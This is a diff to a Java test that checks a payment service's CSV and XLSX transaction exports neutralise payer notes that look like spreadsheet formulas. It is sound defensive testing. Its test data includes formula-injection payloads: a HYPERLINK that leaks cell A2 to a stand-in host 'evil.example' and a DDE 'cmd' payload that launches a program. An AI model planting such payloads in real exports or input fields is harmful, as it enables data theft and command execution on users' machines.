@@ -687,30 +687,35 @@ class ExportTest {
     }
 
     @Test
-    @DisplayName("A payer's note that looks like a formula stays text: quoted in the CSV for Excel, a string cell in XLSX")
-    void aPayersFormulaIsNeverRunByExcel() throws IOException {
+    @DisplayName("A payer's note that looks like a formula stays text: neutralised in every CSV (API, both variants, and the portal's), a string cell in XLSX")
+    void aPayersFormulaIsNeverRunByASpreadsheet() throws IOException {
         Merchant shop = api.newMerchant();
-        String formula = "=HYPERLINK(\"http://example.com/odeme\";\"Faturayı gör\")";
+        List<String> formulas = List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Fatura\")",
+                "+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1,1)");
         Api.Response created = api.post(shop.key(), "/api/v1/links",
-                Api.json(Map.of("amount", "10.00", "payerNoteEnabled", true)));
+                Api.json(Map.of("amount", "10.00", "payerNoteEnabled", true, "usage", "MULTI")));
         assertThat(created.status()).as(created.toString()).isEqualTo(201);
-        String url = created.json().path("url").asString();
-        String sale = pay(Api.tokenOf(url), "4155650100416111", formula, true);
+        String token = Api.tokenOf(created.json().path("url").asString());
+        Map<String, String> saleOf = new LinkedHashMap<>();
+        formulas.forEach(formula -> saleOf.put(formula, pay(token, "4155650100416111", formula, true)));
 
-        Map<String, String> forExcel = byColumn(csv(apiDownload(shop.key(),
-                "/api/v1/transactions/export?format=csv&decimal=comma", "tr"), ';'), "İşlem no").get(sale);
-        assertThat(forExcel.get("Ödeyen açıklaması")).isEqualTo("'" + formula);
-        Map<String, String> forPrograms = byColumn(csv(apiDownload(shop.key(),
-                "/api/v1/transactions/export?format=csv", "tr"), ','), "İşlem no").get(sale);
-        assertThat(forPrograms.get("Ödeyen açıklaması")).as("the data itself, for programs").isEqualTo(formula);
+        PortalSession admin = PortalSession.loggedIn(port, shop);
+        Map<String, List<List<String>>> csvs = Map.of(
+                "API, for programs", csv(apiDownload(shop.key(), "/api/v1/transactions/export?format=csv", "tr"), ','),
+                "API, for Excel", csv(apiDownload(shop.key(), "/api/v1/transactions/export?format=csv&decimal=comma", "tr"), ';'),
+                "portal, default", csv(of(admin.download("/reports/transactions/export?format=csv")), ','));
+        csvs.forEach((which, rows) -> formulas.forEach(formula ->
+                assertThat(byColumn(rows, "İşlem no").get(saleOf.get(formula)).get("Ödeyen açıklaması"))
+                        .as("%s: %s", which, formula).isEqualTo("'" + formula)));
         try (XSSFWorkbook workbook = xlsx(apiDownload(shop.key(), "/api/v1/transactions/export?format=xlsx", "tr"))) {
-            Cell note = workbook.getSheetAt(0).getRow(1).getCell(17);
-            assertThat(note.getCellType()).isEqualTo(CellType.STRING);
-            assertThat(note.getStringCellValue()).isEqualTo(formula);
+            List<String> notes = new ArrayList<>();
+            for (int row = 1; row <= workbook.getSheetAt(0).getLastRowNum(); row++) {
+                Cell note = workbook.getSheetAt(0).getRow(row).getCell(17);
+                assertThat(note.getCellType()).isEqualTo(CellType.STRING);
+                notes.add(note.getStringCellValue());
+            }
+            assertThat(notes).as("a string cell is never run: the data itself").containsExactlyInAnyOrderElementsOf(formulas);
         }
-        assertThat(Exporter.asExcelText("-5")).isEqualTo("'-5");
-        assertThat(Exporter.asExcelText("@SUM(A1)")).isEqualTo("'@SUM(A1)");
-        assertThat(Exporter.asExcelText("Teşekkürler = ok")).isEqualTo("Teşekkürler = ok");
     }
 
     // ---------------------------------------------------------------- the sheet split, unit level
